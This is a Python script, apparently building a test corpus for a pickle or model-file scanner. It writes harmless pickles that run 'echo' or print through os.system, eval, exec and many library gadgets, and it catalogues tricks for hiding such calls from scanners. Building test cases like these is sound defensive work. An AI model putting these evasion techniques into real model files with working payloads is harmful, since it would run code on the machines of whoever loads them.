"""The malicious half of the corpus: pickles that call or import what no model needs, with payloads that do no harm.

Each technique is a function of one payload, so that the same trick is tried with several callables. A file whose name is
in RUNS was seen to print the word below when CPython loads it (run this file with --check to see it again).
"""

import base64
import bz2
import gzip
import io
import lzma
import pickle
import pickletools
import struct
import subprocess
import sys
import zipfile
import zlib

WORD = "surety-was-here"
P2, P4 = b"\x80\x02", b"\x80\x04"


def text(value):
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def data(value):
    return b"C" + bytes([len(value)]) + value if len(value) < 256 else b"B" + struct.pack("<I", len(value)) + value


def stack_global(module, name):
    return text(module) + text(name) + b"\x93"


def named(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


ARGUMENT = f"echo {WORD}"
TUPLE = text(ARGUMENT) + b"\x85"
CALL = named("os", "system") + TUPLE + b"R"  # an opcode sequence that leaves one value
PLAIN = P4 + CALL + b"."
PROTO0 = b"cos\nsystem\n(S'echo " + WORD.encode() + b"'\ntR."


def call(module, name, *arguments):
    """A pickle that calls it; arguments are written by the standard pickler."""
    given = pickle.dumps(tuple(arguments), 4)
    body = given[2:-1]
    if body[:1] == b"\x95":  # the pickler's frame
        body = body[9:]
    return P4 + stack_global(module, name) + body + b"R."


files = {}
RUNS = set()  # of the names below; the others need what is not installed, another reader or another system


def add(name, content, runs=False):
    assert name not in files, name
    files[name] = content
    if runs:
        RUNS.add(name)


# ---- ways to name a callable and to call it
def opcodes():
    add("reduce_p0.pkl", PROTO0, True)
    add("reduce_p1.pkl", b"cos\nsystem\nq\x00(U\x14" + ARGUMENT.encode() + b"q\x01tq\x02Rq\x03.", True)
    add("reduce_p2.pkl", P2 + CALL + b".", True)
    add("reduce_stack_global.pkl", P4 + stack_global("os", "system") + TUPLE + b"R.", True)
    add("reduce_framed.pkl", P4 + b"\x95" + struct.pack("<Q", len(CALL) + 1) + CALL + b".", True)
    add("inst.pkl", b"(S'" + ARGUMENT.encode() + b"'\nios\nsystem\n.", True)
    add("obj.pkl", b"(cos\nsystem\nS'" + ARGUMENT.encode() + b"'\no.", True)
    add("newobj_popen.pkl", P2 + named("subprocess", "Popen") + b")\x81}b.", False)
    add("obj_popen.pkl", b"(csubprocess\nPopen\n" + text(ARGUMENT) + b"\x85I0\nNNNNNI1\nI1\no.", False)
    add("newobj_ex.pkl", P4 + named("subprocess", "Popen") + b")" + b"}" + b"\x92.")
    add(
        "newobj_map.pkl",
        P4
        + named("builtins", "list")
        + named("builtins", "map")
        + named("os", "system")
        + text(ARGUMENT)
        + b"\x85\x86\x81\x85R.",
        True,
    )
    add(
        "filter.pkl",
        P4
        + named("builtins", "bytes")
        + named("builtins", "filter")
        + named("os", "system")
        + text(ARGUMENT)
        + b"\x85\x86\x81\x85R.",
        False,
    )
    add(
        "frozenset_map.pkl",
        P4
        + named("builtins", "frozenset")
        + named("builtins", "map")
        + named("os", "system")
        + text(ARGUMENT)
        + b"\x85\x86\x81\x85\x81.",
        True,
    )
    add(
        "reconstructor_map.pkl",
        P2
        + named("builtins", "set")
        + b"ccopyreg\n__newobj__\n"
        + named("builtins", "map")
        + named("os", "system")
        + text(ARGUMENT)
        + b"\x85\x87R\x85R.",
        True,
    )
    add("import_only.pkl", P4 + b"]" + stack_global("os", "system") + b"a.")
    add("result_dropped.pkl", P4 + CALL + b"0N.", True)
    add("result_in_dict.pkl", P4 + b"}" + text("weights") + CALL + b"s.", True)
    add("among_data.pkl", P4 + b"](" + b"".join(b"K" + bytes([i]) for i in range(200)) + CALL + b"e.", True)
    add("deep_in_data.pkl", P4 + b"]" * 60 + CALL + b"a" * 60 + b".", True)
    add("persistent_argument.pkl", P4 + b"Pstorage\n" + CALL + b"\x86.")
    add("binpersid_of_call.pkl", P4 + CALL + b"Q.", True)
    add("call_in_persistent_id.pkl", P4 + b"(" + text("storage") + CALL + b"tQ.", True)
    add("buffer_argument.pkl", b"\x80\x05\x97" + CALL + b"\x86.")
    add(
        "bytearray_argument.pkl",
        b"\x80\x05"
        + stack_global("builtins", "exec")
        + b"\x96"
        + struct.pack("<Q", 24)
        + b"print('surety-was-here')\n"
        + b"\x85R.",
    )
    add(
        "bytes_argument.pkl",
        P4 + stack_global("builtins", "exec") + data(b"print('surety-was-here')") + b"\x85R.",
        True,
    )
    add("ext1.pkl", P2 + b"\x82\x01" + TUPLE + b"R.")
    add("ext2.pkl", P2 + b"\x83\x01\x02" + TUPLE + b"R.")
    add("ext4.pkl", P2 + b"\x84\x01\x02\x03\x04" + TUPLE + b"R.")
    add(
        "add_extension.pkl",
        P2
        + named("copyreg", "add_extension")
        + text("os")
        + text("system")
        + b"K\x01\x87R0"
        + b"\x82\x01"
        + TUPLE
        + b"R.",
        True,
    )
    add("dup.pkl", P4 + named("os", "system") + b"2" + b"0" + TUPLE + b"R.", True)
    add("pop_mark.pkl", P4 + b"(" + CALL + b"1N.", True)
    add("no_proto_stack_global.pkl", stack_global("os", "system") + TUPLE + b"R.", True)
    add("odd_name", PROTO0, True)
    add("odd_name.bin", PLAIN, True)
    add("odd_name.dat", PROTO0, True)
    add("weights.ckpt", PLAIN, True)
    add("readme.txt", PLAIN, True)
    add("tuple_as_list_arguments.pkl", P4 + named("os", "system") + b"]" + text(ARGUMENT) + b"aR.")
    add("reduce_global_cut_off.pkl", b"cos\nsystem\n(S'" + ARGUMENT.encode() + b"'\ntRcos\nsys", True)


# ---- how text can be written
def spelling():
    add("module_by_unicode_escape.pkl", P4 + b"V\\u006f\\u0073\n" + text("system") + b"\x93" + TUPLE + b"R.", True)
    add("module_by_hex_escape.pkl", P4 + b"S'\\x6f\\x73'\n" + text("system") + b"\x93" + TUPLE + b"R.", True)
    add("module_by_octal_escape.pkl", P4 + b"S'\\157\\163'\n" + text("system") + b"\x93" + TUPLE + b"R.", True)
    add("module_by_double_quote.pkl", P4 + b'S"os"\n' + text("system") + b"\x93" + TUPLE + b"R.", True)
    add(
        "module_by_binunicode8.pkl",
        P4 + b"\x8d" + struct.pack("<Q", 2) + b"os" + text("system") + b"\x93" + TUPLE + b"R.",
        True,
    )
    add(
        "module_by_binstring.pkl",
        P4 + b"T" + struct.pack("<i", 2) + b"os" + text("system") + b"\x93" + TUPLE + b"R.",
        True,
    )
    add("module_by_short_binstring.pkl", P4 + b"U\x02os" + text("system") + b"\x93" + TUPLE + b"R.", True)
    add(
        "module_computed_str.pkl",
        P4
        + named("builtins", "str")
        + data(b"os")
        + text("ascii")
        + b"\x86R"
        + text("system")
        + b"\x93"
        + TUPLE
        + b"R.",
        True,
    )
    add(
        "module_computed_join.pkl",
        P4
        + named("builtins", "getattr")
        + text("")
        + text("join")
        + b"\x86R]("
        + text("o")
        + text("s")
        + b"e\x85R"
        + text("system")
        + b"\x93"
        + TUPLE
        + b"R.",
        True,
    )
    add(
        "name_computed.pkl",
        P4 + text("os") + named("builtins", "str") + data(b"system") + text("ascii") + b"\x86R\x93" + TUPLE + b"R.",
        True,
    )
    for name, module, attribute in [
        ("posix", "posix", "system"),
        ("nt", "nt", "system"),
        ("dotted_random_os", "random", "_os.system"),
        ("dotted_pathlib_os", "pathlib", "os.system"),
        ("dotted_collections", "collections", "_sys.modules"),
        ("dotted_shutil", "shutil", "os.system"),
        ("dotted_json_codecs", "json", "codecs.builtins.exec"),
        ("dotted_decimal", "decimal", "_sys.modules"),
        ("dotted_tarfile", "tarfile", "os.system"),
        ("dotted_uuid", "uuid", "os.system"),
        ("dotted_fractions", "fractions", "sys.modules"),
        ("dotted_datetime", "datetime", "sys.modules"),
        ("dotted_getattribute", "collections", "OrderedDict.__init__.__globals__"),
        ("dotted_subclasses", "builtins", "object.__subclasses__"),
        ("dotted_builtins", "builtins", "dict.__class__.__base__"),
        ("dotted_numpy", "numpy", "os.system"),
        ("dotted_numpy_core", "numpy._core._methods", "os.system"),
        ("dotted_torch", "torch", "os.system"),
        ("dotted_torch_storage", "torch.storage", "io.open"),
        ("dotted_sklearn", "sklearn.utils", "os.system"),
        ("dotted_joblib", "joblib.numpy_pickle", "os.system"),
        ("dotted_pandas", "pandas.core.frame", "os.system"),
        ("dotted_own", "__main__", "os.system"),
        ("dotted_enum", "enum", "sys.modules"),
        ("dotted_re", "re", "functools.reduce"),
    ]:
        add(
            f"{name}.pkl",
            P4 + stack_global(module, attribute) + TUPLE + b"R.",
            attribute.endswith("os.system")
            and module in ("random", "pathlib", "shutil", "tarfile", "uuid")
            or name == "posix",
        )
    add("python2_builtin.pkl", P2 + named("__builtin__", "eval") + text(f"print('{WORD}')") + b"\x85R.", True)
    add("python2_commands.pkl", P2 + named("commands", "getoutput") + TUPLE + b"R.")
    add("python2_os_popen2.pkl", P2 + named("popen2", "popen2") + TUPLE + b"R.")


# ---- the memo
def memo():
    os, system = text("os"), text("system")
    add("memo_get.pkl", P4 + os + b"q\x00" + b"0" + system + b"q\x010" + b"h\x00h\x01\x93" + TUPLE + b"R.", True)
    add(
        "memo_put_after_pop.pkl",
        P4 + os + text("json") + b"0q\x05" + system + text("dumps") + b"0q\x0600" + b"h\x05h\x06\x93" + TUPLE + b"R.",
        True,
    )
    add(
        "memo_overwritten.pkl",
        P4 + text("json") + b"q\x000" + os + b"q\x000" + b"h\x00" + system + b"\x93" + TUPLE + b"R.",
        True,
    )
    add(
        "memo_memoize_after_gap.pkl",
        P4 + text("json") + b"q\x070" + os + b"\x940" + b"h\x01" + system + b"\x93" + TUPLE + b"R.",
        True,
    )
    add(
        "memo_long_index.pkl",
        P4 + os + b"r\x01\x00\x01\x000" + b"j\x01\x00\x01\x00" + system + b"\x93" + TUPLE + b"R.",
        True,
    )
    add("memo_decimal_grammar.pkl", P4 + os + b"p +1_0 \n0" + b"g10\n" + system + b"\x93" + TUPLE + b"R.", True)
    add("memo_decimal_nul.pkl", P4 + os + b"p7\n0" + b"g7\0junk\n" + system + b"\x93" + TUPLE + b"R.")
    add(
        "memo_huge_index_python.pkl",
        P4 + os + b"p" + b"1" * 30 + b"\n0g" + b"1" * 30 + b"\n" + system + b"\x93" + TUPLE + b"R.",
    )
    add("memo_global.pkl", P4 + named("os", "system") + b"\x940N0h\x00" + TUPLE + b"R.", True)
    add("memo_arguments.pkl", P4 + TUPLE + b"q\x010" + named("os", "system") + b"h\x01R.", True)
    add("memo_across_pickles.pkl", P4 + os + b"q\x05." + P4 + b"h\x05" + system + b"\x93" + TUPLE + b"R.")
    add(
        "memo_decoy_first.pkl",
        P4 + named("collections", "OrderedDict") + b"q\x01)R0" + named("os", "system") + b"q\x010h\x01" + TUPLE + b"R.",
        True,
    )
    add("memo_dup_put.pkl", P4 + os + b"2p3\n00" + b"g3\n" + system + b"\x93" + TUPLE + b"R.", True)


# ---- streams: several, hidden, broken off, framed
def streams():
    good = pickle.dumps({"weights": [1.0, 2.0]}, 4)
    add("second.pkl", good + PLAIN)
    add("second_proto0.pkl", good + PROTO0)
    for size in (1, 2, 7, 255, 1024, 100_000):
        add(f"second_behind_{size}_zeros.pkl", good + bytes(size) + PLAIN)
    add("second_behind_newlines.pkl", good + b"\n\n\n" + PROTO0)
    add("second_behind_text.pkl", good + b"This is a licence. " * 20 + PLAIN)
    add("second_behind_false_start.pkl", good + b"\x80\x04\x80\x04\xff" + PLAIN)
    add("second_proto0_behind_junk.pkl", good + b"\x01\x02\xff" * 50 + PROTO0)
    add("second_stack_global_behind_junk.pkl", good + b"\xff" * 33 + stack_global("os", "system") + TUPLE + b"R.")
    add("second_inst_behind_junk.pkl", good + b"\xff" * 9 + files["inst.pkl"])
    add("junk_first.pkl", b"\xff" * 16 + PLAIN)
    add("third.pkl", good + good + PLAIN)
    add("tenth.pkl", good * 9 + PLAIN)
    add("truncated_after_call.pkl", PLAIN[:-1], True)
    add("truncated_in_next_argument.pkl", PLAIN[:-1] + b"X\xff\x00\x00\x00abc", True)
    add("invalid_opcode_after_call.pkl", PLAIN[:-1] + b"\xff\xff", True)
    add("underflow_after_call.pkl", PLAIN[:-1] + b"00", True)
    add("unhashable_after_call.pkl", PLAIN[:-1] + b"0}]Ns.", True)
    add("bad_protocol_after_call.pkl", PLAIN[:-1] + b"\x80\x99.", True)
    add("missing_memo_after_call.pkl", PLAIN[:-1] + b"h\x63.", True)
    add("odd_setitems_after_call.pkl", PLAIN[:-1] + b"}(Nu.", True)
    add(
        "exception_oriented.pkl",
        P4 + named("os", "system") + TUPLE + b"R" + named("no_such_module_x", "f") + b".",
        True,
    )
    add("stop_within_frame.pkl", P4 + b"\x95" + struct.pack("<Q", 3 + len(PLAIN)) + b"N." + b"\x00" + PLAIN)
    add("frame_too_long.pkl", P4 + b"\x95" + struct.pack("<Q", 1 << 40) + CALL + b".")
    add("frame_crossed.pkl", P4 + b"\x95" + struct.pack("<Q", 5) + CALL + b".")
    add("frame_empty.pkl", P4 + b"\x95" + struct.pack("<Q", 0) + CALL + b".")
    add(
        "frames_nested.pkl",
        P4 + b"\x95" + struct.pack("<Q", 9 + len(CALL) + 1) + b"\x95" + struct.pack("<Q", len(CALL) + 1) + CALL + b".",
    )
    add("proto_repeated.pkl", P4 * 20 + CALL + b".", True)
    add("proto_lie_0.pkl", b"\x80\x00" + stack_global("os", "system") + TUPLE + b"R.", True)
    add("proto_late.pkl", CALL + P4 + b".", True)


# ---- state, attributes and methods of foreign objects
def effects():
    state = b"}" + text("__setstate__") + named("os", "system") + b"s"
    add("build_setstate.pkl", P4 + named("__main__", "Model") + b")\x81" + state + b"b" + text(ARGUMENT) + b"b.")
    add(
        "build_setstate_behind_decoy.pkl",
        P4
        + named("types", "SimpleNamespace")
        + b")R}("
        + text("__doc__")
        + b"N"
        + text("__setstate__")
        + named("operator", "methodcaller")
        + text("x")
        + b"\x85Ru"
        + b"b"
        + text(ARGUMENT)
        + b"b.",
    )
    add("build_on_function.pkl", P4 + named("numpy", "prod") + b"}" + text("__code__") + b"Nsb.")
    add(
        "build_on_class.pkl",
        P4 + named("collections", "OrderedDict") + b"N}" + text("__setitem__") + named("builtins", "exec") + b"s\x86b.",
    )
    add(
        "build_on_module_object.pkl",
        P4 + named("sklearn.base", "BaseEstimator") + b"}" + text("fit") + named("builtins", "len") + b"sb.",
    )
    add(
        "build_slots_class.pkl",
        P4 + named("__main__", "Model") + b")\x81N}" + text("__class__") + named("subprocess", "Popen") + b"s\x86b.",
    )
    add(
        "build_dict_class.pkl",
        P4 + named("__main__", "Model") + b")\x81}" + text("__class__") + named("__main__", "Other") + b"sb.",
    )
    add("append_on_imported.pkl", P4 + named("sys", "path") + text("/nowhere") + b"a.", False)
    add("appends_on_imported.pkl", P4 + named("sys", "path") + b"(" + text("/nowhere") + b"e.")
    add("setitem_on_modules.pkl", P4 + named("sys", "modules") + text("json") + b"Ns.")
    add("setitems_on_environment.pkl", P4 + named("os", "environ") + b"(" + text("X") + text("Y") + b"u.")
    add("additems_on_imported.pkl", P4 + named("sys", "flags") + b"(N\x90.")
    add(
        "setitem_on_tensor.pkl",
        P2 + named("torch._utils", "_rebuild_tensor_v2") + b"(Pstorage\nK\x00K\x01\x85K\x01\x85\x89}tRK\x00K\x05s.",
    )
    add("setitems_on_tensor_constructor.pkl", P2 + named("torch", "FloatTensor") + b")R(K\x00K\x05u.")
    add("append_on_size.pkl", P2 + named("torch", "Size") + b"]\x85RK\x05a.")
    add(
        "setitem_on_array.pkl",
        P2
        + named("numpy.core.multiarray", "_reconstruct")
        + named("numpy", "ndarray")
        + b"K\x00\x85"
        + data(b"b")
        + b"\x87RK\x00K\x05s.",
    )
    add("append_on_uuid.pkl", P4 + named("uuid", "UUID") + text("00000000-0000-0000-0000-000000000005") + b"\x85RNa.")
    add(
        "modules_override.pkl",
        P4
        + named("sys", "modules")
        + text("sys")
        + named("sys", "modules")
        + b"s0"
        + named("sys", "get")
        + text("os")
        + b"\x85R.",
    )
    add("default_factory.pkl", P4 + named("collections", "defaultdict") + named("os", "getcwd") + b"\x85R.")
    add("partial_kept.pkl", P4 + named("functools", "partial") + named("os", "system") + b"\x85R}b.")
    add(
        "partial_of_unknown_class.pkl",
        P4 + named("functools", "partial") + named("subprocess", "Popen") + text(ARGUMENT) + b"\x86R.",
    )
    add(
        "rebuild_from_type.pkl",
        P2
        + named("torch._tensor", "_rebuild_from_type_v2")
        + b"("
        + named("os", "system")
        + named("torch", "Tensor")
        + TUPLE
        + b"}tR.",
    )
    add(
        "rebuild_from_type_class.pkl",
        P2
        + named("torch._tensor", "_rebuild_from_type_v2")
        + b"("
        + named("sklearn.base", "BaseEstimator")
        + named("torch", "Tensor")
        + TUPLE
        + b"}tR.",
    )
    add(
        "jax_reconstruct.pkl",
        P4 + named("jax._src.array", "_reconstruct_array") + b"(" + named("os", "system") + TUPLE + b"NNtR.",
    )
    add(
        "random_generator_ctor.pkl",
        P4 + named("numpy.random._pickle", "__generator_ctor") + text(ARGUMENT) + named("os", "system") + b"\x86R.",
    )
    add(
        "bound_method_called.pkl",
        P4
        + named("builtins", "getattr")
        + named("pandas.core.frame", "DataFrame")
        + text("query")
        + b"\x86R"
        + TUPLE
        + b"R.",
    )
    add(
        "harmless_method_called.pkl",
        P4 + named("builtins", "getattr") + named("numpy", "ndarray") + text("tofile") + b"\x86R" + TUPLE + b"R.",
    )
    add("instance_called.pkl", P4 + named("sklearn.base", "BaseEstimator") + b")\x81" + TUPLE + b"R.")
    add("type_of_three.pkl", P4 + named("builtins", "type") + text("X") + b")}\x87R.")
    add("itemgetter_called.pkl", P4 + named("operator", "itemgetter") + text("x") + b"\x85R}\x85R.")
    add(
        "encode_rot13.pkl",
        P4
        + named("_codecs", "encode")
        + text("bf")
        + text("rot13")
        + b"\x86R"
        + text("system")
        + b"\x93"
        + TUPLE
        + b"R.",
        True,
    )


# ---- functions, one file each
def gadgets():
    for module, name, *given in [
        ("builtins", "eval", f"print('{WORD}')"),
        ("builtins", "exec", f"print('{WORD}')"),
        ("builtins", "__import__", "antigravity_x"),
        ("builtins", "compile", "1", "x", "eval"),
        ("builtins", "open", "/nowhere/x", "r"),
        ("builtins", "breakpoint"),
        ("builtins", "print", WORD),
        ("builtins", "getattr", "", "format"),
        ("builtins", "globals"),
        ("builtins", "setattr", [], "a", 1),
        ("builtins", "input", WORD),
        ("os", "popen", ARGUMENT),
        ("os", "execvp", "/nowhere/x", ["x"]),
        ("os", "remove", "/nowhere/x"),
        ("os", "spawnvp", 0, "/nowhere/x", ["x"]),
        ("os", "putenv", "X", "Y"),
        ("subprocess", "run", ["/nowhere/x"]),
        ("subprocess", "check_output", "true"),
        ("subprocess", "getoutput", ARGUMENT),
        ("subprocess", "Popen", ["true"]),
        ("pty", "spawn", "true"),
        ("runpy", "run_path", "/nowhere/x.py"),
        ("runpy", "_run_code", "1", {}),
        ("importlib", "import_module", "json"),
        ("importlib.util", "module_from_spec", None),
        ("code", "InteractiveInterpreter"),
        ("code", "interact", WORD),
        ("codeop", "compile_command", "1"),
        ("timeit", "timeit", "1"),
        ("timeit", "main", ["1"]),
        ("trace", "Trace"),
        ("cProfile", "run", "1"),
        ("profile", "run", "1"),
        ("profile", "Profile"),
        ("bdb", "Bdb"),
        ("pdb", "run", "1"),
        ("doctest", "debug_script", "1"),
        ("cgitb", "lookup", "x", None, {}),
        ("pydoc", "pipepager", "x", "true"),
        ("pydoc", "locate", "json"),
        ("idlelib.pyshell", "ModifiedInterpreter", None),
        ("idlelib.autocomplete", "AutoComplete.fetch_completions", "x", 1),
        ("lib2to3.pgen2.grammar", "Grammar.loads", b"x"),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, "x"),
        ("distutils.spawn", "spawn", ["true"]),
        ("distutils.file_util", "write_file", "/nowhere/x", []),
        ("distutils.command.config", "config"),
        ("pip", "main", ["--version"]),
        ("pip._internal.cli.main", "main", ["--version"]),
        ("ensurepip", "_run_pip", ["--version"]),
        ("venv", "create", "/nowhere/x"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", None, "true", True, None, None, None, 0),
        ("asyncio", "create_subprocess_shell", "true"),
        ("operator", "attrgetter", "system"),
        ("operator", "methodcaller", "system", "true"),
        ("operator", "call", None),
        ("functools", "reduce", None, [1]),
        ("functools", "partialmethod", None),
        ("itertools", "starmap", None, []),
        ("types", "FunctionType", None, {}),
        ("types", "CodeType", 0),
        ("types", "MethodType", None, 1),
        ("marshal", "loads", b"N"),
        ("_pickle", "loads", b"N."),
        ("pickle", "loads", b"N."),
        ("pickle", "Unpickler", None),
        ("dill", "loads", b"N."),
        ("cloudpickle", "loads", b"N."),
        ("cloudpickle.cloudpickle", "_make_function", None),
        ("cloudpickle.cloudpickle", "_builtin_type", "CodeType"),
        ("dill._dill", "_create_function", None),
        ("dill._dill", "_import_module", "json"),
        ("torch", "load", "/nowhere/x.pt"),
        ("torch.hub", "load", "x", "y"),
        ("torch.hub", "load_state_dict_from_url", "http://127.0.0.1/x"),
        ("torch.utils.model_zoo", "load_url", "http://127.0.0.1/x"),
        ("torch.jit", "load", "/nowhere/x"),
        ("torch.serialization", "load", "/nowhere/x"),
        ("torch.utils._config_module", "load_config", b"x"),
        ("torch.utils.collect_env", "run", "true"),
        ("torch.utils.bottleneck.__main__", "run_cprofile", "1", {}),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", None, "1", []),
        ("torch._dynamo.guards", "GuardBuilder.get", None, "1"),
        ("torch._inductor.codecache", "compile_file", "x", "y", []),
        ("torch.fx.graph_module", "reduce_graph_module", {}, ""),
        ("torch.distributed.rpc.server_process_global_profiler", "x"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b"N."),
        ("torch.package", "PackageImporter", "/nowhere/x"),
        ("torch.utils.cpp_extension", "load_inline", "x", "y"),
        ("torch.ops", "load_library", "/nowhere/x.so"),
        ("joblib", "load", "/nowhere/x"),
        ("joblib.numpy_pickle", "load", "/nowhere/x"),
        ("joblib.memory", "Memory", "/nowhere"),
        ("numpy", "load", "/nowhere/x", None, True),
        ("numpy", "fromfile", "/nowhere/x"),
        ("numpy.f2py.crackfortran", "getlincoef", "1", []),
        ("numpy.f2py.crackfortran", "_eval_length", "1", {}),
        ("numpy.f2py.diagnose", "run_command", "true"),
        ("numpy.testing._private.utils", "runstring", "1", {}),
        ("numpy.distutils.exec_command", "exec_command", "true"),
        ("numpy.ctypeslib", "load_library", "x", "/nowhere"),
        ("numpy", "memmap", "/nowhere/x"),
        ("numpy.core._internal", "_ctypes", None),
        ("numpy", "apply_along_axis", None, 0, [1]),
        ("pandas", "read_pickle", "/nowhere/x"),
        ("pandas", "eval", "1"),
        ("pandas.core.computation.eval", "eval", "1"),
        ("pandas.io.pickle", "read_pickle", "/nowhere/x"),
        ("pandas.io.common", "get_handle", "/nowhere/x", "r"),
        ("sklearn.datasets._base", "load_files", "/nowhere"),
        ("sklearn.utils._testing", "check_docstring_parameters", None),
        ("sklearn.externals.joblib", "load", "x"),
        ("scipy.io", "loadmat", "/nowhere/x"),
        ("scipy.io.idl", "readsav", "x"),
        ("statsmodels.iolib.smpickle", "load_pickle", "/nowhere/x"),
        ("nltk.data", "load", "x"),
        ("gensim.utils", "unpickle", "/nowhere/x"),
        ("tensorflow.python.platform.gfile", "GFile", "/nowhere/x", "r"),
        ("keras.src.utils.file_utils", "get_file", "http://127.0.0.1/x"),
        ("keras.models", "load_model", "/nowhere/x"),
        ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "x"),
        ("huggingface_hub", "hf_hub_download", "x", "y"),
        ("spacy.util", "load_model", "x"),
        ("yaml", "unsafe_load", "1"),
        ("yaml", "load", "1"),
        ("jinja2", "Template", "x"),
        ("numexpr", "evaluate", "1"),
        ("sympy.parsing.sympy_parser", "eval_expr", "1", {}, {}),
        ("IPython", "start_ipython"),
        ("theano.gof", "x"),
        ("pydash", "invoke", None),
        ("socket", "create_connection", ["127.0.0.1", 9], 0.1),
        ("urllib.request", "urlopen", "http://127.0.0.1:9/"),
        ("http.client", "HTTPSConnection", "127.0.0.1"),
        ("requests", "get", "http://127.0.0.1:9/"),
        ("requests.api", "get", "http://127.0.0.1:9/"),
        ("ftplib", "FTP", "127.0.0.1"),
        ("smtplib", "SMTP"),
        ("imaplib", "IMAP4_stream", "true"),
        ("ssl", "get_server_certificate", ["127.0.0.1", 9]),
        ("webbrowser", "open", "http://127.0.0.1:9/"),
        ("xmlrpc.client", "ServerProxy", "http://127.0.0.1:9/"),
        ("aiohttp.client", "ClientSession"),
        ("httpx", "get", "http://127.0.0.1:9/"),
        ("paramiko", "SSHClient"),
        ("boto3", "client", "s3"),
        ("shutil", "rmtree", "/nowhere/x"),
        ("tempfile", "mkdtemp"),
        ("zipfile", "ZipFile", "/nowhere/x"),
        ("tarfile", "open", "/nowhere/x"),
        ("sqlite3", "connect", ":memory:"),
        ("linecache", "getline", "/nowhere/x", 1),
        ("fileinput", "input", "/nowhere/x"),
        ("io", "FileIO", "/nowhere/x"),
        ("_io", "open", "/nowhere/x"),
        ("io", "open_code", "/nowhere/x"),
        ("codecs", "open", "/nowhere/x"),
        ("logging", "FileHandler", "/nowhere/x"),
        ("logging.config", "listen"),
        ("glob", "glob", "/nowhere/*"),
        ("pathlib", "Path.write_text", "/nowhere/x", "y"),
        ("gzip", "open", "/nowhere/x"),
        ("mmap", "mmap", -1, 1),
        ("shelve", "open", "/nowhere/x"),
        ("dbm", "open", "/nowhere/x"),
        ("ctypes", "CDLL", "/nowhere/x.so"),
        ("ctypes", "string_at", 0),
        ("_ctypes", "dlopen", "/nowhere/x.so", 0),
        ("cffi", "FFI"),
        ("multiprocessing.util", "spawnv_passfds", b"x", [], []),
        ("multiprocessing", "Process"),
        ("concurrent.futures", "ProcessPoolExecutor"),
        ("threading", "Thread"),
        ("_thread", "start_new_thread", None, []),
        ("signal", "signal", 2, None),
        ("atexit", "register", None),
        ("gc", "get_objects"),
        ("sys", "exit"),
        ("sys", "settrace", None),
        ("faulthandler", "_sigsegv"),
        ("weakref", "finalize", None, None),
        ("inspect", "getsource", None),
        ("uuid", "_get_command_stdout", "true"),
        ("platform", "popen", "true"),
        ("_osx_support", "_read_output", "true"),
        ("_aix_support", "_read_cmd_output", "true"),
        ("_pyrepl.pager", "pipe_pager", "x", "true"),
        ("test.support.script_helper", "assert_python_ok", "-V"),
        ("site", "main"),
        ("zipimport", "zipimporter", "/nowhere/x"),
        ("pkgutil", "resolve_name", "os:system"),
        ("rlcompleter", "Completer"),
        ("fsspec", "open", "/nowhere/x"),
        ("typing", "get_type_hints", None),
        ("dataclasses", "make_dataclass", "X", []),
        ("collections", "namedtuple", "X", "a"),
        ("ast", "literal_eval", "1"),
        ("string", "Formatter"),
        ("xml.sax", "parse", "/nowhere/x"),
        ("copyreg", "constructor", None),
        ("contextlib", "ExitStack"),
        ("unknown_package", "run", "rm -rf /nowhere"),
        ("unknown_package.helpers", "configure", 1),
        ("unknown_package", "Popen", ["id"]),
        ("unknown_package.shell", "system", "id"),
        ("__main__", "helper", 1),
        ("__main__", "Popen", ["id"]),
    ]:
        given = [tuple(one) if isinstance(one, list) and module in ("socket", "ssl") else one for one in given]
        file = f"call_{module}.{name}".replace("__", "") + ".pkl"
        add(
            file,
            call(module, name, *given),
            (module, name) in {("builtins", "eval"), ("builtins", "exec"), ("builtins", "print")},
        )


# ---- what known packages do with what they are given, and calls through what is allowed
def through_allowed():
    def partial(module, name, *given):
        return stack_global("functools", "partial") + b"(" + stack_global(module, name) + b"".join(text(one) for one in given) + b"tR"

    def attribute(module, name, of):
        return stack_global("builtins", "getattr") + stack_global(module, name) + text(of) + b"\x86R"

    formula = text("restore_design_info") + b"\x88" + text("formula") + text("y ~ __import__('os').system('echo never run')")
    add("formula_statsmodels.pkl", P4 + stack_global("statsmodels.base.data", "PandasData") + b")\x81}(" + formula + b"ub.")
    add("formula_formulaic.pkl", call("formulaic.sugar", "model_matrix", "__import__('os')", {}))
    for module, name, *given in [
        ("xgboost.core", "_load_lib"),
        ("lightgbm.libpath", "find_lib_path"),
        ("shap.datasets", "california"),
        ("sktime.datasets", "load_airline"),
        ("matplotlib.cbook", "_get_data_path"),
        ("sentence_transformers", "SentenceTransformer", "evil-model"),
        ("ultralytics.engine.model", "Model", "evil.pt"),
        ("nltk.tag.hunpos", "HunposTagger", "x"),
        ("joblib._parallel_backends", "LokyBackend", "x"),
        ("vendor_tools", "ShellCommand", "reboot"),
        ("vendor_tools.net", "Downloader", "payload"),
        ("sympy.core.add", "Add", "__import__('os')"),
    ]:
        add(f"known_{module}.{name}.pkl", call(module, name, *given))
    for module, name, *given in [
        ("spacy", "load", "evil"),
        ("matplotlib.pyplot", "switch_backend", "module://evil"),
        ("timm.models.registry", "model_entrypoint", "x"),
        ("builtins", "print", WORD),
    ]:
        add(f"partial_{module}.{name}.pkl", P4 + partial(module, name, *given) + b")R.", module == "builtins")
    state = b"(" + stack_global("spacy", "load") + text("evil") + b"\x85}Ntb"
    add("partial_given_another_function.pkl", P4 + partial("builtins", "len") + state + b")R.")
    add(
        "partial_of_constructor_given_another.pkl",
        P4 + stack_global("functools", "partial") + attribute("sklearn.svm", "SVC", "__new__") + b"\x85R" + state + b")R.",
    )
    rebuild = P4 + stack_global("torch._tensor", "_rebuild_from_type_v2") + b"("
    add("rebuild_by_method.pkl", rebuild + attribute("pathlib", "Path", "hardlink_to") + stack_global("torch", "Tensor") + text("a") + text("b") + b"\x86}tR.")
    add("rebuild_by_partial.pkl", rebuild + partial("spacy", "load", "evil") + stack_global("torch", "Tensor") + b")}tR.")
    add("rebuild_by_unknown.pkl", rebuild + stack_global("vendor", "make") + stack_global("torch", "Tensor") + b")}tR.")
    pair = b"](" + text("__setstate__") + stack_global("builtins", "print") + b"\x86e"
